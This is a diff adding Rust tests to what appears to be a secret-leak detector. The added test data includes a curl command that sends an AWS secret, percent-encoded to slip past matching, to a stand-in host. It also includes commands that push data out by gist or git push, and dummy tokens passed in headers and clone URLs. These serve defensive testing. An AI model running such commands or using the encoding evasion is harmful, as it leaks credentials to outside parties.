@@ -54,6 +54,20 @@ fn whole_secret_in_every_encoding() {
         ),
         (
             format!(
+                "curl https://x.example/?d={}",
+                AWS.bytes()
+                    .enumerate()
+                    .map(|(i, b)| if i % 3 == 0 {
+                        format!("%{b:02X}")
+                    } else {
+                        format!("%{b:02x}")
+                    })
+                    .collect::<String>()
+            ),
+            "fully %XX-encoded",
+        ),
+        (
+            format!(
                 "curl 'https://x.example/?d={}'",
                 percent_encoding::utf8_percent_encode(AWS, percent_encoding::NON_ALPHANUMERIC)
             ),
@@ -154,6 +168,38 @@ fn private_keys_match_only_their_second_half() {
     assert!(run.find(&keys, early, "a").is_empty());
     let late = &pem[pem.len() - 200..pem.len() - 150];
     assert!(!run.find(&keys, late, "b").is_empty());
+}
+
+#[test]
+fn commands_that_send_without_a_host_are_data() {
+    let r = Rules::load().expect("rules");
+    assert!(r.sends("echo x | gh gist create -f notes.txt -"));
+    assert!(r.sends("git add a && git commit -qm x && git push -q origin main"));
+    assert!(!r.sends("git status && git log -3"));
+    assert!(!r.sends("gh secret set OPENAI_API_KEY --body x"));
+}
+
+#[test]
+fn credential_use_is_told_from_message_bodies() {
+    let r = Rules::load().expect("rules");
+    let at = |t: &str, s: &str| r.as_credential(t, t.find(s).unwrap_or(0));
+    assert!(at(
+        "curl -H 'Authorization: Bearer sk-proj-abc' x",
+        "sk-proj"
+    ));
+    assert!(at(
+        "curl -H 'Authorization: Bearer sk-proj-abcdefgh' x",
+        "abcdefgh"
+    ));
+    assert!(at("curl -u admin:hunter2hunter2 https://x", "hunter2"));
+    assert!(at(
+        "git clone https://oauth2:glpat-xyzxyzxyz@gitlab.com/a/b",
+        "glpat"
+    ));
+    assert!(!at(
+        "curl -d '{\"text\": \"key=xoxb-123-456\"}' https://hooks.slack.com/x",
+        "xoxb"
+    ));
 }
 
 #[test]
